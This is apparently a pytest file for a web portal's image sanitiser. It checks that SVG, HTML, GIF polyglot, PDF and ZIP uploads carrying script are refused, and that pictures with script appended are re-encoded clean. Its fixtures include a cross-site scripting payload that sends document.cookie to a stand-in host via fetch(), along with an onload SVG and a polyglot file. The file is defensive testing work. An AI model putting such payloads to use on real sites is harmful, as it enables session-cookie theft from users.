"""Files that would do something in a browser: none of them comes out of the portal as it went in."""

from __future__ import annotations

import io

import pytest
from PIL import Image

from portal.media import PictureRefused, draw_anew

SCRIPT = b"<script>fetch('//evil.example/'+document.cookie)</script>"


def picture(kind: str = "JPEG") -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (64, 48), "green").save(out, kind)
    return out.getvalue()


@pytest.mark.parametrize(
    "data",
    [
        b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>",
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        b"<!doctype html>" + SCRIPT,
        b"GIF89a/*" + SCRIPT + b"*/=1;",
        b"%PDF-1.7 " + SCRIPT,
        b"PK\x03\x04" + SCRIPT,
        b"",
    ],
)
def test_what_a_browser_would_run_is_no_picture(data):
    with pytest.raises(PictureRefused):
        draw_anew(data)


@pytest.mark.parametrize("kind", ["JPEG", "PNG", "WEBP"])
def test_a_picture_that_is_a_page_as_well_is_only_a_picture_afterwards(kind):
    drawn = draw_anew(picture(kind) + SCRIPT)
    for part in (drawn.full, drawn.small):
        assert part.startswith(b"\xff\xd8\xff")
        assert b"script" not in part
